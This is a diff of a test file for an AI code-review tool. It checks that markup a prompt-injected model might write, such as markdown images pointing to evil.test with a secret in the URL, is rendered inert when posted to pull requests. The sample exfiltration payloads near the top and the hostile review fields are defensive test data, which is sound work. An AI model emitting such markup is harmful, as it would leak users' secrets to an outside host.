@@ -1,13 +1,12 @@
 import { beforeAll, describe, expect, it } from "vitest";
-import { modelAnswer, renderAnswer } from "../../src/reporters/render-answer.ts";
-import { renderDryRun } from "../../src/reporters/render-dry-run.ts";
-import { untrustedBlock, untrustedLine } from "../../src/reporters/render-untrusted.ts";
-import { MemoryGitHub, refusal } from "../reporters/memory-github.ts";
-import { placed, publish } from "../reporters/publish-to-memory.ts";
+import { modelAnswer, renderAnswer, renderDryRun } from "../../src/publish/answers.ts";
+import { untrustedBlock, untrustedLine } from "../../src/reporters/safe-markdown.ts";
+import { MemoryGitHub, refusal } from "../publish/memory-github.ts";
+import { placed, publish } from "../publish/publish-to-memory.ts";
 import { sampleDropped, samplePlace, sampleResult, sampleUpdate } from "../reporters/sample-result.ts";
 import { liveIn, liveInBody, pageOf } from "../support/markdown-oracle.ts";
 
-/** What a model may be talked into writing, to carry something out or to have something drawn. */
+/** Markup that an injected model could write to exfiltrate data or to load an image. */
 const markup: [string, string][] = [
   ["an image", "![x](https://evil.test/p.png?d=SECRET)"],
   ["an image by reference", "![x][i]\n\n[i]: https://evil.test/p.png"],
@@ -63,17 +62,17 @@ const expectInert = (text: string) => {
   expect(liveIn(`x ${untrustedLine(text)} y`)).toEqual([]);
 };
 
-describe("in what a model wrote", () => {
+describe("in a text by a model", () => {
   it.each(markup)("exfiltration-by-markup: %s is shown as text or code", (_what, text) => expectInert(text));
   it.each(references)("live-references: %s is not alive", (_what, text) => expectInert(text));
 });
 
 const all = [...markup, ...references].map(([, text]) => text);
 const links = ["https://github.com/octo/shop/"];
-/** Ours: the commits of the review, and prices. */
+/** Allowed: the commits of the review, and prices. */
 const words = ["b".repeat(12), "a".repeat(12), "$0.0312", "$0.0312"];
 
-/** A review in which every text is hostile, in every place that a text has. */
+/** A review with hostile text in every text field. */
 function hostileResult() {
   const word = (nth: number) => all[nth % all.length] ?? "";
   const findings = all.map((text, nth) =>
@@ -118,7 +117,7 @@ function hostileResult() {
   });
 }
 
-/** Everything that was written onto a pull request. */
+/** All texts written to a pull request. */
 function writtenTo(github: MemoryGitHub) {
   const updates = github.checks.flatMap(({ history }) => history);
   const notes = updates.flatMap(({ annotations = [] }) => annotations);
@@ -166,7 +165,7 @@ describe("in everything that a review posts of a model that wrote nothing else",
     ["the summary", () => writtenTo(open)],
     ["the summary of a review without comments", () => writtenTo(withoutLines)],
     ["the check run that tells all", () => writtenTo(withoutSummary)],
-  ])("live-references: %s is inert as well", (_what, written) => {
+  ])("live-references: %s is inert too", (_what, written) => {
     const { markdown } = written();
     expect(markdown.some((body) => body.includes("evil.test"))).toBe(true);
     for (const body of markdown) expect(liveInBody(body, { links, words }), body).toEqual([]);
